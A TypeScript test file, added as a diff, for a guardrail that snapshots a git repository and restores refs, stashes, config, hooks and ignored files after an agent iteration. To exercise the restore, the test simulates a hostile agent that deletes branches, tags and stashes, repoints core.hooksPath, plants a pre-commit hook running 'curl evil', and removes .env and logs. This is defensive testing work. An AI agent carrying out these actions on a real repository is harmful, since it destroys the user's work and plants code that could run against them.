@@ -1,0 +1,162 @@
+/**
+ * The snapshot around an iteration, against real repositories: whatever an agent does to refs, the
+ * stash, rescue refs, .git/config, .git/hooks and the user's ignored files comes back byte for byte
+ * and is reported; the caller's own moves are left alone.
+ */
+import { existsSync } from 'node:fs';
+import { chmod, readFile, rm, stat, writeFile } from 'node:fs/promises';
+import path from 'node:path';
+import { describe, expect, it } from 'vitest';
+import { releaseSnapshot, restoreSnapshot, takeSnapshot } from '../../../src/guardrails/snapshot/index.js';
+import { gitSync, makeRepo, writeFiles } from '../../helpers/git-repo.js';
+
+const SECRET = Buffer.from('API_KEY=sk-test-\u00e9\u0000binary\n', 'utf8');
+
+async function userRepo(): Promise<string> {
+  const repo = await makeRepo({ '.gitignore': '.env\n*.log\nnode_modules/\nbig.bin\n', 'a.ts': 'a\n' });
+  gitSync(repo, 'commit', '--allow-empty', '-qm', 'second');
+  gitSync(repo, 'branch', 'feature');
+  gitSync(repo, 'tag', 'v1');
+  gitSync(repo, 'tag', '-a', 'v2', '-m', 'annotated');
+  gitSync(repo, 'update-ref', 'refs/pi-harness/rescue/run1/1', 'HEAD~1');
+  for (const n of [1, 2, 3]) {
+    await writeFile(path.join(repo, 'a.ts'), `stash ${n}\n`);
+    gitSync(repo, 'stash', 'push', '-q', '-m', `user stash ${n}`);
+  }
+  await writeFile(path.join(repo, '.env'), SECRET);
+  await writeFiles(repo, { 'logs/app.log': 'log line\n', 'node_modules/x/index.js': 'skipped\n' });
+  await writeFile(path.join(repo, 'big.bin'), Buffer.alloc(2 * 1024 * 1024, 1));
+  const hook = path.join(repo, '.git', 'hooks', 'commit-msg');
+  await writeFile(hook, '#!/bin/sh\nexit 0\n');
+  await chmod(hook, 0o755);
+  return repo;
+}
+
+const refsOf = (repo: string) =>
+  gitSync(repo, 'for-each-ref', '--format=%(refname) %(objectname)')
+    .split('\n')
+    .filter((line) => !line.startsWith('refs/pi-harness/guardrails/'))
+    .join('\n');
+const stashOf = (repo: string) => gitSync(repo, 'stash', 'list', '--format=%H %gs');
+
+describe('guardrail snapshot', () => {
+  it('restores every ref, stash entry, config, hook and ignored file an agent destroyed', async () => {
+    const repo = await userRepo();
+    const refsBefore = refsOf(repo);
+    const stashBefore = stashOf(repo);
+    const configBefore = await readFile(path.join(repo, '.git', 'config'));
+    const snapshot = await takeSnapshot({ repoRoot: repo, label: 'run1-1' });
+    expect(snapshot.unprotected).toEqual(['big.bin']);
+    expect(snapshot.ignored.map((f) => f.path)).toEqual(['.env', 'logs/app.log']);
+
+    // The hostile agent.
+    gitSync(repo, 'branch', '-D', 'feature');
+    gitSync(repo, 'tag', '-d', 'v1');
+    gitSync(repo, 'tag', '-d', 'v2');
+    gitSync(repo, 'stash', 'drop', '-q', 'stash@{1}');
+    gitSync(repo, 'update-ref', '-d', 'refs/pi-harness/rescue/run1/1');
+    gitSync(repo, 'update-ref', 'refs/heads/main', 'HEAD~1');
+    gitSync(repo, 'config', 'core.hooksPath', '/tmp/evil');
+    await writeFile(path.join(repo, '.git', 'hooks', 'pre-commit'), '#!/bin/sh\ncurl evil\n');
+    await writeFile(path.join(repo, '.git', 'hooks', 'commit-msg'), '#!/bin/sh\nexit 1\n');
+    await rm(path.join(repo, '.env'));
+    await rm(path.join(repo, 'logs'), { recursive: true });
+    gitSync(repo, 'branch', 'agent-branch');
+
+    const { records, visibleIgnored } = await restoreSnapshot(snapshot);
+    const without = (text: string) =>
+      text
+        .split('\n')
+        .filter((l) => !l.startsWith('refs/heads/agent-branch'))
+        .join('\n');
+    expect(without(refsOf(repo))).toBe(without(refsBefore));
+    expect(stashOf(repo)).toBe(stashBefore);
+    expect(gitSync(repo, 'stash', 'show', '-p', 'stash@{1}')).toContain('stash 2');
+    expect(await readFile(path.join(repo, '.git', 'config'))).toEqual(configBefore);
+    expect(existsSync(path.join(repo, '.git', 'hooks', 'pre-commit'))).toBe(false);
+    expect(await readFile(path.join(repo, '.git', 'hooks', 'commit-msg'), 'utf8')).toBe('#!/bin/sh\nexit 0\n');
+    expect((await stat(path.join(repo, '.git', 'hooks', 'commit-msg'))).mode & 0o777).toBe(0o755);
+    expect(await readFile(path.join(repo, '.env'))).toEqual(SECRET);
+    expect(await readFile(path.join(repo, 'logs', 'app.log'), 'utf8')).toBe('log line\n');
+    expect(visibleIgnored).toEqual([]);
+
+    const kinds = records.map(
+      (r) =>
+        `${r.kind}:${'ref' in r ? r.ref : 'path' in r ? r.path : 'hook' in r ? r.hook : 'file' in r ? path.basename(r.file) : ''}`,
+    );
+    expect(kinds.sort()).toEqual(
+      [
+        'ref_restored:refs/heads/feature',
+        'ref_restored:refs/heads/main',
+        'ref_restored:refs/tags/v1',
+        'ref_restored:refs/tags/v2',
+        'ref_restored:refs/pi-harness/rescue/run1/1',
+        'ref_created:refs/heads/agent-branch',
+        'stash_restored:',
+        'git_file_restored:config',
+        'hook_restored:commit-msg',
+        'hook_removed:pre-commit',
+        'ignored_restored:.env',
+        'ignored_restored:logs/app.log',
+      ].sort(),
+    );
+    const planted = records.find((r) => r.kind === 'hook_removed');
+    expect(planted && 'movedTo' in planted && (await readFile(planted.movedTo, 'utf8'))).toContain('curl evil');
+    await releaseSnapshot(snapshot);
+    expect(gitSync(repo, 'for-each-ref', 'refs/pi-harness/guardrails/')).toBe('');
+  });
+
+  it("leaves the caller's own moves alone and reports nothing when nothing changed", async () => {
+    const repo = await userRepo();
+    const snapshot = await takeSnapshot({ repoRoot: repo, label: 'own' });
+    expect((await restoreSnapshot(snapshot)).records).toEqual([]);
+    gitSync(repo, 'commit', '--allow-empty', '-qm', 'the iteration commits');
+    gitSync(repo, 'update-ref', 'refs/pi-harness/rescue/run1/2', 'HEAD');
+    const own = { 'refs/heads/main': 'fast-forward' as const, 'refs/pi-harness/rescue/': 'any' as const };
+    const head = gitSync(repo, 'rev-parse', 'HEAD').trim();
+    expect((await restoreSnapshot(snapshot, { ownRefs: own })).records).toEqual([]);
+    expect(gitSync(repo, 'rev-parse', 'HEAD').trim()).toBe(head);
+    // A move backwards is not the caller's, even on its own branch.
+    gitSync(repo, 'reset', '-q', '--soft', 'HEAD~2');
+    const { records } = await restoreSnapshot(snapshot, { ownRefs: own });
+    expect(records).toMatchObject([{ kind: 'ref_restored', ref: 'refs/heads/main', change: 'moved' }]);
+  });
+
+  it('reports ignored files an edited .gitignore made visible, and keeps changed ones', async () => {
+    const repo = await userRepo();
+    const snapshot = await takeSnapshot({ repoRoot: repo, label: 'visible' });
+    await writeFile(path.join(repo, '.gitignore'), 'node_modules/\nbig.bin\n');
+    await writeFile(path.join(repo, 'logs', 'app.log'), 'agent rewrote it\n');
+    const { records, visibleIgnored } = await restoreSnapshot(snapshot);
+    expect(visibleIgnored).toEqual(['.env', 'logs/app.log']);
+    expect(records).toContainEqual({ kind: 'ignored_visible', path: '.env' });
+    const changed = records.find((r) => r.kind === 'ignored_changed');
+    expect(changed).toMatchObject({ path: 'logs/app.log', action: 'kept' });
+    expect(changed && 'original' in changed && gitSync(repo, 'cat-file', 'blob', changed.original)).toBe('log line\n');
+  });
+
+  it('survives git clean -fdx and gc --prune=now with its pin', async () => {
+    const repo = await userRepo();
+    const snapshot = await takeSnapshot({
+      repoRoot: repo,
+      label: 'clean',
+      protectIgnored: { maxFileBytes: 4 * 1024 * 1024 },
+    });
+    expect(snapshot.unprotected).toEqual([]);
+    gitSync(repo, 'clean', '-fdxq');
+    gitSync(repo, 'stash', 'clear');
+    gitSync(repo, 'reflog', 'expire', '--expire=now', '--all');
+    gitSync(repo, 'gc', '-q', '--prune=now');
+    await restoreSnapshot(snapshot);
+    expect(await readFile(path.join(repo, '.env'))).toEqual(SECRET);
+    expect((await stat(path.join(repo, 'big.bin'))).size).toBe(2 * 1024 * 1024);
+    expect(existsSync(path.join(repo, 'node_modules'))).toBe(false); // skipped by default
+    expect(stashOf(repo).split('\n').filter(Boolean)).toHaveLength(3);
+  });
+
+  it('keeps no ignored files when told not to', async () => {
+    const repo = await userRepo();
+    const snapshot = await takeSnapshot({ repoRoot: repo, label: 'off', protectIgnored: false });
+    expect(snapshot.ignored).toEqual([]);
+  });
+});
